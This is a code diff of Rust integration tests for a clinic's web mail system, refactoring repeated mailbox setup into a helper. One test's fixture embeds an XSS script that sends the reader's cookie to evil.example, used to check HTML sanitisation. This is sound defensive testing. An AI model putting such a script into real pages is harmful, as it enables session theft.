@@ -43,6 +43,18 @@ async fn desk(app: &TestApp, org: &str, domain: &str, user: &str, address: &str)
     m
 }
 
+/// Ana's personal mailbox dr.ana@direct.lakeside.test, at Lakeside Clinic.
+async fn ana_desk(app: &TestApp) -> Mailbox {
+    desk(
+        app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await
+}
+
 async fn mailbox(
     app: &TestApp,
     org_id: i64,
@@ -690,14 +702,7 @@ async fn a_message_written_in_the_browser_is_received_read_and_answered_with_del
 #[tokio::test]
 async fn bulk_actions_move_flag_and_delete_with_undo_folders_trash_and_counts() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let other = desk(
         &app,
         "Hillside Care",
@@ -1016,14 +1021,7 @@ fn day(date: &str) -> i64 {
 #[tokio::test]
 async fn search_finds_by_any_field_date_and_folder_pages_and_survives_hostile_queries() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let me = "dr.ana@direct.lakeside.test";
     let cardio = Mail::new(
         "zoe@partner.example",
@@ -1196,14 +1194,7 @@ async fn search_finds_by_any_field_date_and_folder_pages_and_survives_hostile_qu
 #[tokio::test]
 async fn a_long_folder_pages_by_fifty_and_polling_brings_only_new_mail() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let now = app.now();
     let seed: Vec<(Mail, i64)> = (0..120)
         .map(|i| {
@@ -1507,14 +1498,7 @@ async fn uploads_that_are_not_allowed_are_refused_with_the_file_named_and_the_re
         config.attachment_types.0.clear();
     })
     .await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let mut ana = app.signed_in("ana@direct.lakeside.test").await;
     let id = compose(&mut ana, mb.id).await;
     let page = ana.get(&format!("/mail/drafts/{id}")).await;
@@ -1635,14 +1619,7 @@ async fn uploads_that_are_not_allowed_are_refused_with_the_file_named_and_the_re
 #[tokio::test]
 async fn each_recipient_is_checked_and_an_unknown_one_stops_the_send_keeping_the_draft() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     desk(
         &app,
         "Hillside Care",
@@ -1764,14 +1741,7 @@ async fn each_recipient_is_checked_and_an_unknown_one_stops_the_send_keeping_the
 async fn another_organizations_member_gets_404_on_every_mail_route_and_forged_posts_change_nothing()
 {
     let app = TestApp::spawn().await;
-    let ana_box = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let ana_box = ana_desk(&app).await;
     let kim_box = desk(
         &app,
         "Hillside Care",
@@ -2034,14 +2004,7 @@ async fn another_organizations_member_gets_404_on_every_mail_route_and_forged_po
 #[tokio::test]
 async fn an_html_message_is_shown_sanitized_in_a_sandboxed_frame_without_remote_images() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let html = r#"<html><body>
 <p>Your patient's <b>results</b> are ready.</p>
 <script>document.location='http://evil.example/steal?c='+document.cookie</script>
@@ -2116,14 +2079,7 @@ async fn an_html_message_is_shown_sanitized_in_a_sandboxed_frame_without_remote_
 #[tokio::test]
 async fn a_text_message_links_web_addresses_and_shows_markup_as_text() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let text = deliver(
         &app,
         mb.id,
@@ -2320,14 +2276,7 @@ async fn a_failed_delivery_shows_why_and_edit_and_resend_reopens_the_message_as_
 #[tokio::test]
 async fn the_print_view_has_the_subject_headers_and_text_and_is_audited() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let id = deliver(
         &app,
         mb.id,
@@ -2364,14 +2313,7 @@ async fn the_print_view_has_the_subject_headers_and_text_and_is_audited() {
 #[tokio::test]
 async fn reply_all_and_forward_open_drafts_with_the_right_people_subject_and_files() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let file = pdf("Care plan");
     let id = deliver(
         &app,
@@ -2457,14 +2399,7 @@ async fn reply_all_and_forward_open_drafts_with_the_right_people_subject_and_fil
 #[tokio::test]
 async fn undoing_a_delete_after_its_folder_was_removed_brings_the_messages_to_the_inbox() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let id = deliver(
         &app,
         mb.id,
@@ -2527,14 +2462,7 @@ async fn sessions(app: &TestApp) -> Vec<String> {
 async fn the_list_names_senders_from_the_directory_and_viewing_pages_does_not_rewrite_the_session()
 {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     let to = "dr.ana@direct.lakeside.test";
     let known = deliver(
         &app,
@@ -2591,14 +2519,7 @@ async fn the_list_names_senders_from_the_directory_and_viewing_pages_does_not_re
 #[tokio::test]
 async fn a_search_finds_old_matches_beyond_the_newest_two_thousand_messages() {
     let app = TestApp::spawn().await;
-    let mb = desk(
-        &app,
-        "Lakeside Clinic",
-        "direct.lakeside.test",
-        "ana@direct.lakeside.test",
-        "dr.ana@direct.lakeside.test",
-    )
-    .await;
+    let mb = ana_desk(&app).await;
     // 2 100 messages: the 40 oldest and the 40 newest mention "echogram"; PostgreSQL
     // looks through the newest 2 000 first and must then go on to the rest
     let now = app.now();
